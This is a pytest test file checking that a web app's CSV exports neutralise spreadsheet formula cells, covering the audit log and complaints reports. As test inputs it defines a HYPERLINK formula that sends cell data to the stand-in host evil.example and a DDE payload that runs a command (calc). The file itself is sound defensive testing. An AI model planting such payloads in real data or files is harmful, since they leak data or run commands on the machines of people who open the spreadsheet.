"""Every CSV the app serves neutralises cells a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from core.csvsafe import csv_text, neutralise
from tests.console.helpers import csrf_token, login

LINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
CMD = "=cmd|' /C calc'!A0"


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", CMD, LINK])
def test_formula_cells_get_a_leading_quote(value: str) -> None:
    assert neutralise(value) == "'" + value
    parsed = list(csv.reader(io.StringIO(csv_text(["h"], [[value]]).lstrip("\ufeff"), newline="")))
    assert parsed[1] == ["'" + value]


@pytest.mark.parametrize("value", [3, -2.5, 0, "plain", "南山", "", None, "a=b", "-", "-2.5", "+86"])
def test_numbers_and_plain_text_stay_as_they_are(value) -> None:
    assert neutralise(value) == value


def test_a_failed_sign_in_name_is_not_a_live_formula_in_the_audit_export(client, make_user) -> None:
    make_user("lin", role="lead")
    outsider = client.application.test_client()
    outsider.post("/console/login", data={"name": LINK, "password": "x", "csrf_token": csrf_token(outsider)})
    login(client, "lin")
    cells = [cell for row in _rows(client.get("/console/audit.csv")) for cell in row]
    assert "'" + LINK in cells
    assert LINK not in cells


def test_complaint_text_is_not_a_live_formula_in_the_complaints_export(client, make_user) -> None:
    _agent, token = make_user("alice")
    make_user("lin", role="lead")
    created = client.post("/api/cases", json={"kind": "complaint", "description": CMD},
                          headers={"Authorization": f"Bearer {token}"})
    assert created.status_code == 201, created.get_json()
    login(client, "lin")
    rows = _rows(client.get("/console/reports/export/complaints.csv"))  # today, local time
    cells = [cell for row in rows for cell in row]
    assert "'" + CMD in cells and CMD not in cells
